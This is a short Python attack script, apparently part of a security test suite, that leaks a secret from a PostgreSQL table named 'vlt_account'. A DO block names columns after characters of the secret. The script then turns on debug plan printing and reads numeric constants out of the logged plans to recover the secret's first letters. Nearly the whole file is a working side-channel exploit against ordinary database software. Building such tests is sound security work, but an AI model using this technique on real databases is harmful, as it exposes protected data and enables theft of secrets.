"""Has a refused block name columns by the value, and finds them by numbers in printed plans."""

import re

from attacks.frames import ask, query
from attacks.talking import Server
from raw_client import RawClient

WANTS = "read"
SHOWS = "it begins with top-"

BLOCK = b"""DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  FOR n IN 1..4 LOOP
    EXECUTE format('SELECT x::text FROM (SELECT 1 AS "c%s_%s") x', n, substr(value, n, 1));
  END LOOP;
END $$"""
# A row that is a constant in a plan: its length, the number of its type, and what says it is a row.
NUMBER = re.compile(rb":constvalue \d+ \[ -?\d+ 0 0 0 (-?\d+) (-?\d+) 0 0 -55 8 ")


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(BLOCK))
        ask(client, query(b"SET debug_print_plan = on"))
        ask(client, query(b"SET client_min_messages = log"))
        newest = number(client, "newest")
        found = ""
        for place in range(1, 5):
            letters = [one for one in "apt-o" if number(client, f"c{place}_{one}") < newest]
            found += "".join(letters)
        return b"it begins with " + found.encode()


def number(client: RawClient, name: str) -> int:
    heard = ask(client, query(f'SELECT x FROM (SELECT 1 AS "{name}") x'.encode()))
    match = NUMBER.search(heard)
    return int(match[1]) % 256 + 256 * (int(match[2]) % 256) if match else 1 << 20
